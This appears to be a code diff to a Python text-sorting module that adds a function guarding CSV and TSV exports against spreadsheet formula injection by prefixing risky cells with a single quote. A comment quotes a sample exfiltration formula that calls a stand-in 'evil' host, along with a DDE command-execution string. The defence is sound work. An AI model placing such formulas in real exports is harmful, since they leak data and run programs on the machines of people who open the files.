@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 import unicodedata
 from functools import lru_cache
+from typing import Any
 
 # Combining marks that make a distinct letter of the Vietnamese alphabet (ă â ê ô ơ ư),
 # as opposed to the five tone marks, which only matter after the letters when sorting.
@@ -66,3 +67,21 @@ def sort_key(text: str) -> tuple:
     """
     keys = [_char_key(ch) for ch in nfc(text).lower()]
     return (tuple(k[0] for k in keys), tuple(k[1] for k in keys), text)
+
+
+# A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV or TSV runs a cell starting with one of
+# these as a formula: `=HYPERLINK("http://evil/?"&A1)` sends the sheet's data away, `+1+cmd|...` (DDE) runs a
+# program. Record text is typed or imported by anyone, so every such cell is neutralised.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(value: Any) -> Any:
+    """A text cell that a spreadsheet would read as a formula, made plain text the way OWASP recommends.
+
+    A single quote in front makes the spreadsheet show the text as typed (and is not shown by Excel);
+    the csv writer then quotes the cell and doubles its inner quotes where the format needs it. Numbers
+    are left alone: they are never negative here (prices, scores, stars), and a number is not a formula.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
